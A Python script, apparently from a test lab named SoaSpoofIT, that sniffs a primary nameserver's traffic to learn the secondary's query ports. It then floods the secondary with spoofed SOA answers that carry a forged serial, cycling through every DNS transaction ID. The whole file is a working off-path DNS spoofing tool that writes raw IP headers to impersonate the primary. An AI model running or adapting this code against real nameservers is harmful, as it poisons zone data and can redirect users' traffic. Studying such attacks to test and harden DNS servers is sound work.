#!/usr/bin/python3
"""An off-path SOA answer forger for SoaSpoofIT, run inside the primary's network namespace.

Arguments: interface, primary address, secondary (dns-oops) address, zone, forged serial.
1. Watches the interface (AF_PACKET) and notes the source ports SOA queries come from, the way
   an attacker who once saw a query (or guessed a long-lived port) knows them; prints
   "ready", and on "learn" on stdin stops watching and prints "learned <ports>".
2. On "flood <seconds>" on stdin, sends forged answers from the primary's address and port 53
   (raw socket, IP header written here) to every learned port with every ID in turn, with the
   forged serial, for that long, never reading a query meanwhile; prints "sent <count>".
"""
import select
import socket
import struct
import sys
import time

iface, primary, secondary, zone, serial = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
primary_b, secondary_b = socket.inet_aton(primary), socket.inet_aton(secondary)


def out(line):
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
sniff.bind((iface, 0))
ports = set()
out("ready")
while True:
    r, _, _ = select.select([sniff, sys.stdin], [], [])
    if sys.stdin in r:
        if sys.stdin.readline().strip() == "learn":
            break
        continue
    frame = sniff.recv(2048)
    ip = frame[14:]
    if len(ip) < 28 or ip[9] != 17 or ip[12:16] != secondary_b or ip[16:20] != primary_b:
        continue
    ihl = (ip[0] & 0x0F) * 4
    sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
    if dport == 53:
        ports.add(sport)
sniff.close()
out("learned " + " ".join(str(p) for p in sorted(ports)))

qname = b"".join(bytes([len(l)]) + l.encode() for l in zone.strip(".").split(".")) + b"\x00"
dns = bytearray(struct.pack("!HHHHHH", 0, 0x8400, 1, 1, 0, 0) + qname + struct.pack("!HH", 6, 1)
                + struct.pack("!HHHIH", 0xC00C, 6, 1, 3600, 22) + b"\x00\x00"
                + struct.pack("!IIIII", serial, 3600, 600, 86400, 300))
udp_len = 8 + len(dns)
packet = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0, primary_b, secondary_b)
                   + struct.pack("!HHHH", 53, 0, udp_len, 0) + dns)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
targets = sorted(ports)

line = sys.stdin.readline().split()
seconds = float(line[1]) if len(line) == 2 and line[0] == "flood" else 0
sent = 0
end = time.monotonic() + seconds
qid = 0
while targets and time.monotonic() < end:
    for _ in range(256):
        struct.pack_into("!H", packet, 28, qid)
        for p in targets:
            struct.pack_into("!H", packet, 22, p)
            try:
                raw.sendto(packet, (secondary, 0))
                sent += 1
            except OSError:
                pass  # a full send buffer: drop and go on, as a real flood would
        qid = (qid + 1) & 0xFFFF
out("sent %d" % sent)
